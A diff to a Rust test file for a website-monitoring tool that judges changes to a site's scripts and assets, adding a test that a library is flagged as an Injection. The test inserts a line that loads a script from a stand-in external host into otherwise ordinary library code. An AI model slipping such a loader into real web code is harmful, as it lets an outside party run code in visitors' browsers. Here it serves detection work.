@@ -1,5 +1,10 @@
 //! What is said of scripts, style sheets and pictures that a site gives with its pages.
+#![expect(
+    clippy::unwrap_used,
+    reason = "a test that cannot be set up has failed"
+)]
 
+use std::fmt::Write as _;
 use std::io::Cursor;
 
 use image::{DynamicImage, ImageFormat, Rgb, RgbImage};
@@ -135,9 +140,11 @@ async fn a_page_with_hundreds_of_files_is_asked_for_a_few_and_all_get_their_turn
     let mut watched = Watched::begin().await;
     let mut page = PAGE.to_owned();
     for number in 0..300 {
-        page.push_str(&format!(
+        write!(
+            page,
             "<img src=/p/{number}.png><script src=/s/{number}.js></script>"
-        ));
+        )
+        .unwrap();
     }
     watched.site.put("/", "text/html; charset=utf-8", page);
     let first = watched.after(1).await;
@@ -328,4 +335,47 @@ async fn code_that_is_gone_is_said_and_a_small_picture_does_no_harm() {
         check.judgement.reasons[0],
         Reason::LoadedGone { status: 404, .. }
     ));
+}
+
+#[tokio::test]
+async fn a_loader_in_the_midst_of_a_library_is_an_injection_and_the_next_version_is_none() {
+    let mut watched = Watched::begin().await;
+    let library = |version: usize| -> String {
+        let function = |number: usize| {
+            let name = number * 7_919 % 1_000;
+            format!(
+                "function f{name}(a){{var b=a*{number};document.createElement('script');return b+{name};}}\n"
+            )
+        };
+        // The next version has another function in ten.
+        (0..400)
+            .map(|number| {
+                function(if number % 10 == 3 {
+                    number * version
+                } else {
+                    number
+                })
+            })
+            .collect()
+    };
+    watched
+        .site
+        .put("/js/lib.js", "text/javascript", library(1));
+    let page = PAGE.replace("<script", "<script src=/js/lib.js></script><script");
+    watched.site.put("/", "text/html; charset=utf-8", page);
+    let seen = watched.after(1).await;
+    watched.approve(&seen);
+    let (verdict, reasons) = watched
+        .said_of("/js/lib.js", "text/javascript", library(2))
+        .await;
+    assert!(!verdict.is_alarm(), "{reasons:?}");
+    let seen = watched.after(1).await;
+    watched.approve(&seen);
+    let mut spoilt = library(2);
+    let half = spoilt[10_000..].find('\n').unwrap() + 10_001;
+    spoilt.insert_str(half, "var s=document.createElement('script');s.src='https://khac.example.net/a.js';document.body.append(s);\n");
+    let (verdict, reasons) = watched
+        .said_of("/js/lib.js", "text/javascript", spoilt)
+        .await;
+    assert_eq!(verdict, Verdict::Injection, "{reasons:?}");
 }
